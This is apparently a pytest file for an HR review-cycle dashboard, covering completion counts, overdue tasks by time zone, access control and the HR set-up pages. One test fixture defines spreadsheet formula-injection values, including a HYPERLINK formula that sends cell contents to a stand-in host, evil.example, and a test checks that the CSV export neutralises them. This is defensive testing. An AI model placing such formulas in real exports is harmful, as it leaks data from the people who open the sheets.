"""HR's cycle dashboard (issue 16): completion per phase by department and by manager with
exact counts on the small cycle org, overdue judged in the cycle's time zone, who has not
nominated peers, drafts awaiting approval, the bias report's state; the API and the CSV
(HR only, formula-looking names neutralised); the HR cycle pages (list, set-up form that
keeps what was typed on an error, start, copy, dashboard)."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, insert, select, update

from domain.phases import Phase, TaskKind, TaskStatus
from service.app import create_app
from service.cycles.dashboard import (
    CycleNotStarted,
    Dashboard,
    GroupCompletion,
    dashboard,
    dashboard_csv,
)
from service.cycles.setup import CycleSetupIn
from service.cycles.setup_store import create_cycle, start_cycle
from service.db.models import (
    BiasReport,
    CycleTask,
    Draft,
    DraftVersion,
    Person,
    Rating,
    ReviewCycle,
)
from service.settings import Settings
from tests.cycle_org import PERIOD, CycleOrg, build_cycle_org, setup_body

API = "/api/v1"
ORIGIN = {"Origin": "http://testserver"}
# 10 July 23:30 UTC is already 11 July in Lisbon (UTC+1 in summer): the self-reflection
# phase (due 10 July) is overdue there, though not yet in UTC.
AFTER_DUE = datetime(2026, 7, 10, 23, 30, tzinfo=UTC)
BEFORE_DUE = datetime(2026, 7, 10, 22, 30, tzinfo=UTC)
HOSTILE_DEPARTMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Risk")'
HOSTILE_NAME = "@SUM(1+1) Cal"


@pytest.fixture
def org(engine: Engine) -> CycleOrg:
    """The cycle org with 2026-H1 started: 26 tasks (see tests/cycle_org.py)."""
    org = build_cycle_org(engine)
    with engine.begin() as conn:
        create_cycle(conn, PERIOD, CycleSetupIn.model_validate(setup_body()), actor="t")
        start_cycle(conn, PERIOD.name, actor="t")
    return org


def _set(engine: Engine, org: CycleOrg, kind: TaskKind, subject: str, status: TaskStatus) -> None:
    with engine.begin() as conn:
        conn.execute(
            update(CycleTask)
            .where(CycleTask.kind == kind, CycleTask.subject_id == org.ids[subject])
            .values(status=status, done_at=None if status is TaskStatus.OPEN else AFTER_DUE)
        )


def _progress(engine: Engine, org: CycleOrg) -> None:
    """Al and Bea wrote their self-reflections, Al and Cal nominated peers, Mia approved
    Cal's list and declined (as a stand-in) Bea's approval."""
    _set(engine, org, TaskKind.WRITE_SELF_REFLECTION, "al", TaskStatus.DONE)
    _set(engine, org, TaskKind.WRITE_SELF_REFLECTION, "bea", TaskStatus.DONE)
    _set(engine, org, TaskKind.NOMINATE_PEERS, "al", TaskStatus.DONE)
    _set(engine, org, TaskKind.NOMINATE_PEERS, "cal", TaskStatus.DONE)
    _set(engine, org, TaskKind.APPROVE_NOMINATIONS, "cal", TaskStatus.DONE)
    _set(engine, org, TaskKind.APPROVE_NOMINATIONS, "bea", TaskStatus.DECLINED)


def _read(engine: Engine, now: datetime, **kw: int) -> Dashboard:
    with engine.connect() as conn:
        return dashboard(conn, PERIOD.name, now=now, **kw)


def _table(groups: list[GroupCompletion]) -> dict[str, dict[str, tuple[int, int, int, int]]]:
    return {
        g.group: {
            **{p.phase.value: (p.done, p.declined, p.open, p.overdue) for p in g.phases},
            "all": (g.all.done, g.all.declined, g.all.open, g.all.overdue),
        }
        for g in groups
    }


# --- the service ------------------------------------------------------------------------


def test_completion_is_counted_by_department_and_by_manager(engine: Engine, org: CycleOrg) -> None:
    _progress(engine, org)
    board = _read(engine, AFTER_DUE)
    # by the subject's department: (done, declined, open, overdue)
    assert _table(board.by_department) == {
        # Mia, Al, Ned, Bea: 4 self + 3 nominate (Mia has no manager to approve a list) +
        # 3 approve; 3 manager; 4 ack
        "Payments": {
            "self_reflection": (3, 1, 6, 6),
            "manager_review": (0, 0, 3, 0),
            "sign_off": (0, 0, 4, 0),
            "all": (3, 1, 13, 6),
        },
        "People": {"self_reflection": (0, 0, 1, 1), "sign_off": (0, 0, 1, 0), "all": (0, 0, 2, 1)},
        "Risk": {
            "self_reflection": (2, 0, 1, 1),
            "manager_review": (0, 0, 1, 0),
            "sign_off": (0, 0, 1, 0),
            "all": (2, 0, 3, 1),
        },
    }
    # by the subject's manager: Mia's reports are Al, Bea and Cal; Al's is Ned
    assert _table(board.by_manager) == {
        "(no manager)": {  # Mia and Hana: their own self-reflection (nobody approves a list)
            "self_reflection": (0, 0, 2, 2),
            "sign_off": (0, 0, 2, 0),
            "all": (0, 0, 4, 2),
        },
        "Al Reyes": {
            "self_reflection": (0, 0, 3, 3),
            "manager_review": (0, 0, 1, 0),
            "sign_off": (0, 0, 1, 0),
            "all": (0, 0, 5, 3),
        },
        "Mia Stone": {
            "self_reflection": (5, 1, 3, 3),
            "manager_review": (0, 0, 3, 0),
            "sign_off": (0, 0, 3, 0),
            "all": (5, 1, 9, 3),
        },
    }
    assert {g.group: g.manager_id for g in board.by_manager} == {
        "(no manager)": None,
        "Al Reyes": org.ids["al"],
        "Mia Stone": org.ids["mia"],
    }
    assert [(p.phase, p.total, p.done, p.overdue) for p in board.phases] == [
        (Phase.SELF_REFLECTION, 14, 5, 8),
        (Phase.MANAGER_REVIEW, 4, 0, 0),
        (Phase.SIGN_OFF, 6, 0, 0),
    ]
    risk = next(g for g in board.by_department if g.group == "Risk")
    assert risk.all.completed_share == pytest.approx(2 / 5, abs=1e-4)
    assert board.by_manager_total == 3
    # a page that cannot show every manager asks for those with the most overdue
    worst = _read(engine, AFTER_DUE, managers=2)
    assert worst.by_manager_total == 3
    # Mia's and Al's 3 overdue each, before the 2 of the people with no manager (the page
    # shows the chosen managers by name)
    assert [g.group for g in worst.by_manager] == ["Al Reyes", "Mia Stone"]


def test_overdue_is_judged_in_the_cycles_time_zone(engine: Engine, org: CycleOrg) -> None:
    _progress(engine, org)
    before = _read(engine, BEFORE_DUE)
    assert before.today.isoformat() == "2026-07-10"
    assert before.overdue.total == 0 and before.overdue.items == []
    after = _read(engine, AFTER_DUE, limit=4, offset=0)
    assert after.today.isoformat() == "2026-07-11"
    assert after.overdue.total == 8
    assert len(after.overdue.items) == 4
    assert {t.days_late for t in after.overdue.items} == {1}
    rest = _read(engine, AFTER_DUE, limit=50, offset=4).overdue.items
    every = after.overdue.items + rest
    assert len({t.task_id for t in every}) == 8
    named = {(t.kind, t.assignee, t.subject) for t in every}
    assert (TaskKind.APPROVE_NOMINATIONS, "Al Reyes", "Ned Park") in named
    assert (TaskKind.WRITE_SELF_REFLECTION, "Hana Kim", "Hana Kim") in named
    assert all(t.due_on.isoformat() == "2026-07-10" for t in every)
    later = _read(engine, datetime(2026, 7, 20, 12, tzinfo=UTC))
    assert {t.days_late for t in later.overdue.items} == {10}


def test_who_has_not_nominated_peers(engine: Engine, org: CycleOrg) -> None:
    _progress(engine, org)
    board = _read(engine, AFTER_DUE)
    assert board.not_nominated_total == 2  # Mia and Hana have no manager: not asked
    assert [(p.name, p.manager, p.overdue) for p in board.not_nominated] == [
        ("Bea Ross", "Mia Stone", True),
        ("Ned Park", "Al Reyes", True),
    ]


def _draft(engine: Engine, subject: int, kind: str, status: str) -> int:
    with engine.begin() as conn:
        draft_id = conn.execute(
            insert(Draft)
            .values(subject_id=subject, kind=kind, period=PERIOD.name, status=status)
            .returning(Draft.id)
        ).scalar_one()
        conn.execute(
            insert(DraftVersion).values(
                draft_id=draft_id,
                version=1,
                body={"sections": []},
                citations={},
                author="t",
                origin="offline",
                supported_share=1.0,
            )
        )
    return int(draft_id)


def test_drafts_awaiting_approval_and_the_bias_report_state(engine: Engine, org: CycleOrg) -> None:
    waiting = {
        _draft(engine, org.ids["al"], "self_reflection", "draft"),
        _draft(engine, org.ids["bea"], "manager_feedback", "checked"),
    }
    _draft(engine, org.ids["cal"], "self_reflection", "approved")
    board = _read(engine, AFTER_DUE)
    assert board.drafts_awaiting_total == 2
    assert {d.id for d in board.drafts_awaiting} == waiting
    assert {d.status for d in board.drafts_awaiting} == {"draft", "checked"}
    assert board.bias_report.state == "none"
    with engine.begin() as conn:
        cycle_id = conn.execute(select(CycleTask.cycle_id).limit(1)).scalar_one()
        conn.execute(
            insert(Rating).values(
                cycle_id=cycle_id, person_id=org.ids["al"], rater_id=org.ids["mia"], rating=3
            )
        )
    with engine.begin() as conn:
        conn.execute(
            insert(BiasReport).values(
                cycle=PERIOD.name, version=1, created_by="t", data_seen={}, report={}
            )
        )
    assert _read(engine, AFTER_DUE).bias_report.state == "current"
    with engine.begin() as conn:
        conn.execute(update(Rating).values(rating=4))
    stale = _read(engine, AFTER_DUE).bias_report
    assert stale.state == "stale" and stale.version == 1


def test_a_draft_cycle_has_no_dashboard_yet(engine: Engine) -> None:
    build_cycle_org(engine)
    with engine.begin() as conn:
        create_cycle(conn, PERIOD, CycleSetupIn.model_validate(setup_body()), actor="t")
    with engine.connect() as conn, pytest.raises(CycleNotStarted) as raised:
        dashboard(conn, PERIOD.name, now=AFTER_DUE)
    assert raised.value.field == "cycle"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_neutralises_a_hostile_department_and_name(engine: Engine, org: CycleOrg) -> None:
    with engine.begin() as conn:
        conn.execute(
            update(Person)
            .where(Person.id == org.ids["cal"])
            .values(department=HOSTILE_DEPARTMENT, name=HOSTILE_NAME)
        )
        conn.execute(update(Person).where(Person.id == org.ids["mia"]).values(name="-Mia Stone"))
    with engine.connect() as conn:
        text = dashboard_csv(conn, PERIOD.name, now=AFTER_DUE)
    rows = _rows(text)
    assert rows[0][:3] == ["section", "group", "phase"]
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE_DEPARTMENT in cells and HOSTILE_DEPARTMENT not in cells
    assert "'" + HOSTILE_NAME in cells and HOSTILE_NAME not in cells
    assert "'-Mia Stone" in cells and "-Mia Stone" not in cells
    assert not any(re.match(r"[=+\-@\t\r]", c) for c in cells)
    by_section = {r[0] for r in rows[1:]}
    assert by_section == {"department", "manager", "overdue"}
    risk_all = next(r for r in rows if r[0] == "department" and r[2] == "all" and "Risk" in r[1])
    assert risk_all[3:7] == ["0", "0", "5", "3"]
    overdue = [r for r in rows if r[0] == "overdue"]
    assert len(overdue) == 14 and {r[11] for r in overdue} == {"1"}


# --- the API ------------------------------------------------------------------------------


@pytest.fixture
def api(engine: Engine, settings: Settings, org: CycleOrg) -> Iterator[TestClient]:
    with TestClient(create_app(settings, engine=engine, worker=False)) as client:
        yield client


def test_the_api_answers_hr_alone(api: TestClient, org: CycleOrg) -> None:
    url = f"{API}/cycles/{PERIOD.name}/dashboard"
    for who in ("mia", "al", "ned", "cal"):
        for path in (url, f"{url}.csv"):
            assert api.get(path, headers=org.auth(who)).status_code == 403, (who, path)
    answer = api.get(url, params={"limit": 2}, headers=org.auth("hana"))
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["cycle"] == PERIOD.name and body["overdue"]["limit"] == 2
    assert {g["group"] for g in body["by_department"]} == {"Payments", "People", "Risk"}
    sheet = api.get(f"{url}.csv", headers=org.auth("hana"))
    assert sheet.status_code == 200
    assert sheet.headers["content-type"].startswith("text/csv")
    assert "attachment" in sheet.headers["content-disposition"]
    assert _rows(sheet.text)[0][0] == "section"
    assert api.get(f"{API}/cycles/2031-H1/dashboard", headers=org.auth("hana")).status_code == 404
    bad = api.get(f"{API}/cycles/nonsense/dashboard.csv", headers=org.auth("hana"))
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "cycle"


# --- the pages ----------------------------------------------------------------------------

H2_DATES = {
    "self_reflection": ("2027-01-04", "2027-01-15"),
    "peer_feedback": ("2027-01-11", "2027-01-22"),
    "manager_review": ("2027-01-18", "2027-01-29"),
    "calibration": ("2027-02-01", "2027-02-12"),
    "release": ("2027-02-15", "2027-02-17"),
    "sign_off": ("2027-02-17", "2027-02-26"),
}


def _sign_in(client: TestClient, org: CycleOrg, who: str) -> None:
    client.cookies.clear()
    answer = client.post(
        "/sign-in",
        data={"token": org.tokens[who], "next": "/"},
        headers=ORIGIN,
        follow_redirects=False,
    )
    assert answer.status_code == 303


def _form(**changes: str | list[str]) -> dict[str, str | list[str]]:
    """The set-up form of 2026-H2 as a browser posts it, with `changes` over it."""
    form: dict[str, str | list[str]] = {
        "period": "2026-H2",
        "title": "2026 H2 review",
        "time_zone": "Europe/Lisbon",
        "participants.cutoff": "2026-12-31",
        "participants.departments": "Payments\nRisk\n",
        "participants.levels": "",
        "participants.job_families": "",
        "reviews": ["self_reflection", "peer_feedback", "manager_feedback", "calibration"],
        "scale.min": "1",
        "scale.max": "3",
        "scale.labels": "Below\nMeets\nAbove",
    }
    for phase, (opens, due) in H2_DATES.items():
        form[f"phases.{phase}.opens"] = opens
        form[f"phases.{phase}.due"] = due
    form.update(changes)
    return form


HR_PAGES = (
    "/hr/cycles",
    "/hr/cycles/new",
    f"/hr/cycles/{PERIOD.name}/setup",
    f"/hr/cycles/{PERIOD.name}/dashboard",
    f"/hr/cycles/{PERIOD.name}/dashboard.csv",
)


def test_the_cycle_pages_are_for_hr_alone(api: TestClient, org: CycleOrg, engine: Engine) -> None:
    for who in ("ned", "mia"):  # an employee, a manager
        _sign_in(api, org, who)
        for path in HR_PAGES:
            answer = api.get(path)
            assert answer.status_code == 403, (who, path)
            assert "HR admin role" in answer.text
        for action, data in (("copy", {"period": "2026-H2"}), ("start", {})):
            posted = api.post(f"/hr/cycles/{PERIOD.name}/{action}", data=data, headers=ORIGIN)
            assert posted.status_code == 403 or "HR admin role" in posted.text, (who, action)
        created = api.post("/hr/cycles", data=_form(), headers=ORIGIN)
        assert created.status_code == 403, who
    with engine.connect() as conn:
        assert set(conn.execute(select(ReviewCycle.name)).scalars()) == {PERIOD.name}
    _sign_in(api, org, "hana")
    for path in HR_PAGES:
        assert api.get(path).status_code == 200, path


def test_the_dashboard_page_shows_the_tables_and_the_forms(
    api: TestClient, org: CycleOrg, engine: Engine
) -> None:
    _progress(engine, org)
    _sign_in(api, org, "hana")
    page = api.get(f"/hr/cycles/{PERIOD.name}/dashboard").text
    for text in ("By department (3)", "By manager (3)", "Mia Stone", "Payments", "Risk"):
        assert text in page
    assert "Not yet nominated peers (2)" in page
    assert f'action="/hr/cycles/{PERIOD.name}/phases/calibration/close"' in page
    assert f'action="/hr/cycles/{PERIOD.name}/release"' in page
    assert '<option value="Payments">Payments</option>' in page
    assert f'href="/hr/cycles/{PERIOD.name}/dashboard.csv"' in page
    assert "No bias report has been run" in page
    # 2026-H1's phases are long past: every open task is overdue, 50 a page
    assert "Overdue tasks (" in page
    csv_page = api.get(f"/hr/cycles/{PERIOD.name}/dashboard.csv")
    assert csv_page.headers["content-type"].startswith("text/csv")
    assert api.get(f"/hr/cycles/{PERIOD.name}/dashboard", params={"page": 0}).status_code == 422
    every = api.get(f"/hr/cycles/{PERIOD.name}/dashboard", params={"managers": "all"})
    assert every.status_code == 200 and "Every manager, by name." in every.text
    assert api.get(f"/hr/cycles/{PERIOD.name}/dashboard?managers=%3Cb%3E").status_code == 422


def test_hr_sets_up_starts_and_copies_a_cycle_from_the_pages(
    api: TestClient, org: CycleOrg
) -> None:
    _sign_in(api, org, "hana")
    made = api.post("/hr/cycles", data=_form(), headers=ORIGIN, follow_redirects=False)
    assert made.status_code == 303, made.text
    assert made.headers["location"] == "/hr/cycles/2026-H2/setup"
    setup = api.get("/hr/cycles/2026-H2/setup").text
    assert 'value="2026 H2 review"' in setup and "Payments\nRisk</textarea>" in setup
    changed = api.post(
        "/hr/cycles/2026-H2/setup",
        data=_form(title="Second half"),
        headers=ORIGIN,
        follow_redirects=False,
    )
    assert changed.status_code == 303, changed.text
    assert 'value="Second half"' in api.get("/hr/cycles/2026-H2/setup").text
    started = api.post("/hr/cycles/2026-H2/start", headers=ORIGIN, follow_redirects=False)
    assert started.status_code == 303
    assert started.headers["location"] == "/hr/cycles/2026-H2/dashboard"
    board = api.get("/hr/cycles/2026-H2/dashboard").text
    assert "Started 2026-H2" in board and "Cal Ibsen" in board
    assert "Hana Kim" not in board.split("By department")[1].split("Overdue tasks")[0]
    # once started, the set-up form changes the dates alone: a new title is not sent
    moved = _form(title="Ignored", **{"phases.sign_off.due": "2027-02-28"})
    answer = api.post("/hr/cycles/2026-H2/setup", data=moved, headers=ORIGIN)
    assert answer.status_code == 200
    assert 'value="Second half"' in answer.text and 'value="2027-02-28"' in answer.text
    copied = api.post(
        "/hr/cycles/2026-H2/copy",
        data={"period": "2027-H1"},
        headers=ORIGIN,
        follow_redirects=False,
    )
    assert copied.status_code == 303 and copied.headers["location"] == "/hr/cycles/2027-H1/setup"
    listed = api.get("/hr/cycles").text
    rows = re.findall(r'<th scope="row" class="nowrap"><a href="/hr/cycles/([^/]+)/setup">', listed)
    assert rows == ["2027-H1", "2026-H2", "2026-H1"], "newest period first"
    again = api.post(
        "/hr/cycles/2026-H2/copy", data={"period": "2027-H1"}, headers=ORIGIN, follow_redirects=True
    )
    assert "already set up" in again.text


def test_a_refused_set_up_keeps_everything_typed_and_names_each_field(
    api: TestClient, org: CycleOrg, engine: Engine
) -> None:
    _sign_in(api, org, "hana")
    typed = _form(
        title="Review <b>2026</b> & co",
        time_zone="Mars/Olympus_Mons",
        **{
            "scale.max": "three",
            "phases.calibration.opens": "2027-02-20",  # after it is due
            "participants.departments": "Payments\n=evil()\n",
        },
    )
    answer = api.post("/hr/cycles", data=typed, headers=ORIGIN)
    assert answer.status_code == 422
    page = answer.text
    assert 'value="Review &lt;b&gt;2026&lt;/b&gt; &amp; co"' in page
    assert 'value="Mars/Olympus_Mons"' in page and 'value="three"' in page
    assert 'value="2027-02-20"' in page and "Payments\n=evil()\n</textarea>" in page
    assert 'id="e-scale-max"' in page and 'aria-invalid="true"' in page
    assert "Everything you typed is still here" in page
    # the shape is fixed first; then the checks a shape cannot say, field by field
    fixed = api.post("/hr/cycles", data={**typed, "scale.max": "3"}, headers=ORIGIN)
    assert fixed.status_code == 422
    assert 'id="e-time_zone"' in fixed.text and "is not an IANA time zone" in fixed.text
    zone = api.post(
        "/hr/cycles", data={**typed, "scale.max": "3", "time_zone": "UTC"}, headers=ORIGIN
    )
    assert zone.status_code == 422
    assert 'id="e-phases-calibration-due"' in zone.text
    blank = api.post("/hr/cycles", data=_form(period=""), headers=ORIGIN)
    assert blank.status_code == 422 and 'id="e-period"' in blank.text
    taken = api.post("/hr/cycles", data=_form(period=PERIOD.name), headers=ORIGIN)
    assert taken.status_code == 422 and "already set up" in taken.text
    with engine.connect() as conn:
        names = set(conn.execute(select(ReviewCycle.name)).scalars())
    assert names == {PERIOD.name}, "a refused set-up leaves nothing behind"
